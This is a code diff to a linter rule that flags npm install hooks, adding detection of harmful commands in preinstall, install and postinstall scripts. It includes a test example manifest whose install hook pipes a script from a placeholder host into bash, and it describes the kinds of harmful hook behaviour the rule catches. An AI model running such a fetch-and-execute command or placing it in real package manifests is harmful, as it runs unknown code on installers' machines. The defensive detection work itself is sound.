@@ -6,6 +6,10 @@ npm runs the scripts `preinstall`, `install` and `postinstall` of every package 
 whoever types the command. This is how the worms of 2025 and 2026 spread. `preinstall` runs before anything else, even
 before the dependencies are there, and is an error; the other two are a warning, since native packages need them.
 
+What the command does counts more than the hook: one that downloads a script and runs it, decodes what it runs, opens a
+shell to another machine, sends or searches for secrets, publishes packages, changes the git repository or the start-up
+files of whoever installs, deletes files outside of the package, or runs a file of a hidden directory is an error.
+
 A script whose file is not in the tarball fails on every machine but yours, and tools that only developers have (husky,
 patch-package, lefthook, simple-git-hooks, is-ci) do the same or change the repository of whoever installs: both are an
 error. `prepare`, `prepublishOnly` and `prepack` do not run for packages from a registry and are left alone.
@@ -24,7 +28,7 @@ from __future__ import annotations
 from collections.abc import Iterator
 from dataclasses import dataclass
 
-from pkglint.detect.code import shell
+from pkglint.detect.code import danger, gyp, shell
 from pkglint.metadata.npm import Manifest
 from pkglint.model import Entry, Example, Finding, Fix, FixAction, Kind, Level, Row, Rule, Scope, level
 from pkglint.rules.runs._packages import Packages, is_manifest
@@ -36,6 +40,8 @@ DEVELOPER_TOOLS = frozenset(
         "ghooks", "git-hooks", "pinst", "only-allow", "tsc", "rollup", "webpack", "vite", "tsup", "eslint", "jest",
     }
 )  # fmt: skip
+# Programs that Node.js and npm put on the path of every hook.
+EVERYWHERE = frozenset({"node", "npm", "npx", "corepack", "node-gyp"})
 
 
 @dataclass(frozen=True, slots=True)
@@ -61,11 +67,16 @@ def _finish(scope: Scope) -> Iterator[Finding]:
 
 
 def _found(scope: Scope, root: str, manifest: Manifest, rows: dict[str, Row], hook: str, command: str) -> Finding:
-    steps = shell.steps(command, manifest.table("scripts"))
-    text = f"runs {shell.shown(command)} on every machine that installs the package ({hook})"
-    grade = Level.ERROR if hook == "preinstall" else None
+    scripts = manifest.table("scripts")
+    steps = shell.steps(command, scripts)
+    harm = _harm(shell.texts(command, scripts), steps)
+    shown = f"`{harm.part}`" if harm else shell.shown(command)
+    text = f"runs {shown} on every machine that installs the package ({hook})"
+    if harm:
+        text += f", which {harm.text}"
+    grade = Level.ERROR if hook == "preinstall" or harm else None
     missing = [step.file for step in steps if not step.optional and _missing(step, root, rows)]
-    tools = sorted({step.program for step in steps if step.program in DEVELOPER_TOOLS or _only_here(step, manifest)})
+    tools = sorted({step.program for step in steps if _developers(step, manifest)})
     if missing:
         text += f"; {_name(missing[0])} is not in the tarball"
         grade = Level.ERROR
@@ -78,9 +89,22 @@ def _found(scope: Scope, root: str, manifest: Manifest, rows: dict[str, Row], ho
         rows.get(f"{root}package.json", f"{root}package.json"),
         text,
         fix=Fix(FixAction.PIN, (), f"Remove the {hook} script, or allow its exact command."),
-        details={"hook": hook, "missing": missing[:5], "tools": tools[:5]},
+        details={"hook": hook, "missing": missing[:5], "tools": tools[:5], "does": harm.kind if harm else ""},
         grade=grade,
     )
+
+
+def _harm(commands: list[str], steps: list[shell.Step]) -> danger.Danger | None:
+    """The first thing in a hook's commands that nobody wants on their machine."""
+    for command in commands:
+        harm = danger.find(command[: danger.MOST], installing=True)
+        if harm:
+            return harm
+        if gyp.silent(command):
+            program = next((step.program for step in steps if step.file), "...")
+            part = f"{program if program in shell.INTERPRETERS else '...'} ... > /dev/null"
+            return danger.Danger("silent", "runs a script of the package out of sight", part, 0)
+    return None
 
 
 def _name(text: str) -> str:
@@ -97,6 +121,13 @@ def _missing(step: shell.Step, root: str, rows: dict[str, Row]) -> bool:
     candidates += [f"{file}/index{suffix}" for suffix in (".js", ".json", ".node")]
     candidates.append(f"{file}/package.json")
     return rows.keys().isdisjoint(candidates)
+
+
+def _developers(step: shell.Step, manifest: Manifest) -> bool:
+    """Whether a program is on developers' machines only; what may fail, and what every client brings, is not."""
+    if step.program in EVERYWHERE:
+        return False
+    return step.program in DEVELOPER_TOOLS or (_only_here(step, manifest) and not step.optional)
 
 
 def _only_here(step: shell.Step, manifest: Manifest) -> bool:
@@ -116,7 +147,10 @@ RULE = Rule(
     id="install-script",
     summary="Installing the package runs a script",
     levels=level(Level.WARNING),
-    grades="error for preinstall, for a script that is not in the tarball, and for developers' tools",
+    grades=(
+        "error for preinstall, for a command that does harm, for a script that is not in the tarball, and for"
+        " developers' tools"
+    ),
     kinds=(Kind.NPM,),
     options=Options,
     state=Packages,
@@ -131,6 +165,14 @@ RULE = Rule(
         ),
         Example("preinstall", {"package.json": _manifest('"preinstall": "npx only-allow pnpm"')}, 1),
         Example("a file that is not there", {"package.json": _manifest('"install": "node scripts/build"')}, 1),
+        Example(
+            "a script from the network", {"package.json": _manifest('"install": "curl -s demo.invalid/a | bash"')}, 1
+        ),
+        Example(
+            "a file of a hidden directory",
+            {"package.json": _manifest('"postinstall": "node .a/b.js"'), ".a/b.js": "run();\n"},
+            1,
+        ),
         Example("a developer's tool", {"package.json": _manifest('"postinstall": "is-ci || husky install"')}, 1),
         Example(
             "through npm run",
